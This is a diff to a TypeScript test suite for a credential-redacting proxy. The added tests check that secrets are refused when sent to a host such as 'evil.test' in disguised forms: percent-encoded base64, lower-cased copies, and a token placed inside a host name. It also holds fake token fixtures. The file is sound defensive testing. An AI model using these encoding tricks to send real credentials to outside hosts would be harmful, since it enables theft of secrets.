@@ -17,7 +17,8 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from
 import { hostileEncode, startHttpsUpstream, type HttpsUpstream } from '../fakes/https-upstream.ts';
 import { connect, exchange, startProxy, startTls, viaConnect, type CredentialFixture, type ProxyFixture, type RawResponse } from './proxy-harness.ts';
 
-const CI_REAL = 'ciRealZq8V4lu3xK7pT2mW9nB5vY1cH6gJ0fLs';
+// `~ ? >` put `+` and `/` into its base64, so the percent-encoded and `\/` forms differ.
+const CI_REAL = 'ciReal~Zq8V4l?u3xK7>pT2mW9nB5vY1cH6gJ0f?Ls';
 const CI_STUB = 'agent-smith-stub-HHHHoooossssTTTTiiiilllleeeeHHHHoooossss7777';
 const GH_REAL = 'ghp_Hq2R7zXv9LmK4tW8yN3bC6dF1gJ5sP0aE';
 const GH_STUB = 'agent-smith-stub-GGGGhhhhGGGGhhhhGGGGhhhhGGGGhhhhGGGGhhhh1111';
@@ -28,7 +29,7 @@ const CREDENTIALS: CredentialFixture[] = [
 ];
 const NAMES = ['ci.test', 'api.test', 'evil.test', 'other.test'];
 
-const FORMS = ['raw', 'hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'json', 'JSON', 'entDec', 'entHex', 'ENTHEX', 'b64', 'b64url', 'mime', 'pem', 'utf16le', 'utf16be'];
+const FORMS = ['raw', 'hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'json', 'JSON', 'entDec', 'entHex', 'ENTHEX', 'b64', 'b64url', 'b64pct', 'b64php', 'mime', 'pem', 'utf16le', 'utf16be'];
 /** Forms that are matched in any letter case (made of hex digits). */
 const CASELESS = new Set(['hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'json', 'JSON', 'entHex', 'ENTHEX']);
 
@@ -55,15 +56,18 @@ function revealedIn(text: string, value: string): string | undefined {
   // A prefix (or any part) of 8 characters, raw: what a cut-before-redaction leaks (a
   // stub's fixed "agent-smith-stub-" prefix is no secret).
   const secret = value.replace(/^agent-smith-stub-/, '');
-  for (let i = 0; i + 8 <= secret.length; i++) if (flat.includes(secret.slice(i, i + 8))) return `raw part "${secret.slice(i, i + 8)}"`;
+  // In any letter case: a lower-cased copy of a value is as good as the value.
+  for (let i = 0; i + 8 <= secret.length; i++) if (lower.includes(secret.slice(i, i + 8).toLowerCase())) return `raw part "${secret.slice(i, i + 8)}"`;
   for (const form of FORMS) {
     if (form === 'mime' || form === 'pem') continue;
     const f = hostileEncode(value, form);
     if (CASELESS.has(form) ? lower.includes(f.toLowerCase()) : flat.includes(f)) return form;
   }
-  // Base64 / base64url runs, at every character offset, as UTF-8 and UTF-16.
+  // Base64 / base64url runs, at every character offset, as UTF-8 and UTF-16 (also after
+  // undoing percent-encoding and `\/`).
   const inner = value.slice(2, -2);
-  for (const run of flat.match(/[A-Za-z0-9+/_-]{12,}/g) ?? []) {
+  const unescaped = flat.replace(/%([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16))).replace(/\\\//g, '/');
+  for (const run of [...(flat.match(/[A-Za-z0-9+/_-]{12,}/g) ?? []), ...(unescaped.match(/[A-Za-z0-9+/_-]{12,}/g) ?? [])]) {
     for (let o = 0; o < 4; o++) {
       const bytes = Buffer.from(run.slice(o).replace(/-/g, '+').replace(/_/g, '/'), 'base64');
       for (const shift of [0, 1]) {
@@ -209,12 +213,16 @@ describe('agent-smith proxy: a hostile credential host', () => {
         const r3 = seen(await viaConnect(fx, 'evil.test:443', request(`/${'p'.repeat(500 - pad)}${CI_STUB}`, 'evil.test')));
         expect(r3.status).toBe(403);
       }
+      // A host name is lower-cased before it is quoted: the redaction must still see it.
+      const { socket, res } = await connect(fx.port, `${GH_REAL}.nope.test:443`);
+      socket.destroy();
+      expect(seen(res).status).toBe(403);
     });
   });
 
   describe('the outbound guard: one set of forms', () => {
     const singleLine = FORMS.filter((f) => f !== 'mime' && f !== 'pem');
-    const queryable = ['raw', 'hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'b64url'];
+    const queryable = ['raw', 'hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'b64url', 'b64pct'];
 
     it('refuses every form of a stub to a host outside its scope: in a header, the query, the body', async () => {
       for (const form of FORMS) {
@@ -244,7 +252,7 @@ describe('agent-smith proxy: a hostile credential host', () => {
   });
 
   describe("GitHub's `token` scheme", () => {
-    it('swaps `token <stub>` on the credential host and refuses it elsewhere', async () => {
+    it('swaps `token <stub>` on the credential host (bearer or basic credential) and refuses it elsewhere', async () => {
       const ok = seen(await viaConnect(fx, 'ci.test:443', request('/echo', 'ci.test', [`Authorization: token ${CI_STUB}`])));
       expect(ok.status).toBe(200);
       expect(up.requests[0]?.rawHeaders).toContain(`token ${CI_REAL}`);
@@ -252,6 +260,10 @@ describe('agent-smith proxy: a hostile credential host', () => {
       const refused = seen(await viaConnect(fx, 'evil.test:443', request('/echo', 'evil.test', [`Authorization: Token ${CI_STUB}`])));
       expect({ status: refused.status, reason: refused.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 403, reason: 'stub_out_of_scope' });
       expect(up.requests.filter((r) => r.sni === 'evil.test')).toEqual([]);
+      // A basic (git) credential takes it too: gh sends `token`, git sends Basic.
+      const gh = seen(await viaConnect(fx, 'api.test:443', request('/echo', 'api.test', [`Authorization: token ${GH_STUB}`])));
+      expect(gh.status).toBe(200);
+      expect(up.requests.find((r) => r.sni === 'api.test')?.rawHeaders).toContain(`token ${GH_REAL}`);
     });
   });
 
